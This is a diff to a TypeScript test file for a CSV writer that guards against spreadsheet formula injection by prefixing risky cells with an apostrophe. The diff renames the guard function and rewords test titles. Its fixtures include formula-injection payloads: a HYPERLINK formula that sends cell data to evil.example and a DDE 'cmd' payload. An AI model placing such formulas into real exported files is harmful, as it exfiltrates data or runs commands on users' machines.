@@ -1,6 +1,6 @@
-/** What a spreadsheet, and any other reader of RFC 4180, makes of our CSV. */
+/** Our CSV as a spreadsheet, or any other reader of RFC 4180, reads it. */
 import { describe, expect, test } from 'vitest';
-import { type Cell, csvRow, needsGuard, rupees } from './csv.ts';
+import { type Cell, csvRow, needsApostrophe, rupees } from './csv.ts';
 import { readCsv } from './testing/read-csv.ts';
 
 const line = (...cells: Cell[]) => csvRow(cells).slice(0, -2);
@@ -19,7 +19,7 @@ describe('a text', () => {
     [' Asha ', '" Asha "'],
     ['आशा राव', 'आशा राव'],
     ['₹599 क्ष 👩‍🔬', '₹599 क्ष 👩‍🔬'],
-    // Nothing that begins a formula stands at its beginning.
+    // A formula character inside the text is harmless.
     ['C-12, A=B', '"C-12, A=B"'],
     ['asha@example.in', 'asha@example.in'],
     ["O'Brien", "O'Brien"],
@@ -31,7 +31,7 @@ describe('a text', () => {
   ])('%j is written %j', (text, written) => expect(line(text)).toBe(written));
 });
 
-describe('what a spreadsheet would take for a formula is one no more', () => {
+describe('a formula is written as text', () => {
   test.each([
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "=cmd|' /C calc'!A0",
@@ -56,16 +56,16 @@ describe('what a spreadsheet would take for a formula is one no more', () => {
     '＠SUM(A1)',
     '=',
   ])('%j', (text) => {
-    expect(needsGuard(text)).toBe(true);
+    expect(needsApostrophe(text)).toBe(true);
     expect(line(text)).toBe(`"'${text.replaceAll('"', '""')}"`);
   });
 });
 
-test.each(['098765', '00', '1234567890123456', ' 0123 '])('%j keeps its digits: it is no number', (text) =>
+test.each(['098765', '00', '1234567890123456', ' 0123 '])('%j keeps its digits', (text) =>
   expect(line(text)).toBe(`"'${text}"`),
 );
 
-describe('what we made is left alone', () => {
+describe('numbers and times are written unchanged', () => {
   test.each<[Cell, string]>([
     [-120, '-120'],
     [0, '0'],
@@ -91,7 +91,7 @@ function numbers(seed: number) {
   };
 }
 
-test('whatever is written is read back, and no cell of it is a formula', () => {
+test('every text can be read back, and no cell is a formula', () => {
   const next = numbers(2026);
   const parts = [
     '=',
@@ -118,7 +118,8 @@ test('whatever is written is read back, and no cell of it is a formula', () => {
   // A row of one empty cell is an empty line, which a reader may take for none.
   const table = Array.from({ length: 2000 }, () => Array.from({ length: 2 + next(4) }, text));
   const read = readCsv(table.map(csvRow).join(''));
-  const bare = (cell: string) => (cell.startsWith("'") && needsGuard(cell.slice(1)) ? cell.slice(1) : cell);
+  const bare = (cell: string) =>
+    cell.startsWith("'") && needsApostrophe(cell.slice(1)) ? cell.slice(1) : cell;
   expect(read.map((row) => row.map(bare))).toEqual(table);
   expect(read.flat().filter((cell) => /^[\s"\0]*[=+\-@＝＋－＠]|^[\t\r\n\0]/.test(cell))).toEqual([]);
 });
